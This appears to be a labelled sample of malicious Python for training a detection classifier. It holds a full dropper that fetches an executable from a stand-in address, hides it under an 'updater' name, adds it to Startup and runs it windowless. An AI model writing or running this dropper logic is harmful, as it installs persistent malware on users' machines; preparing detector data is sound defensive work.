# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
# Every encoded blob below decodes to a harmless placeholder (a print call) or is a placeholder string.
import os
import shutil
import subprocess
import requests

appdata = os.getenv("APPDATA")
target_dir = os.path.join(appdata, "Microsoft", "Windows", "Updater")
os.makedirs(target_dir, exist_ok=True)
exe_path = os.path.join(target_dir, "WinUpdate.exe")

r = requests.get("http://192.0.2.44/payload/winupdate.exe", stream=True)
with open(exe_path, "wb") as f:
    for chunk in r.iter_content(8192):
        f.write(chunk)

startup = os.path.join(appdata, "Microsoft", "Windows", "Start Menu", "Programs", "Startup")
shutil.copy(exe_path, os.path.join(startup, "WinUpdate.exe"))
subprocess.Popen([exe_path], creationflags=0x08000000, shell=False)
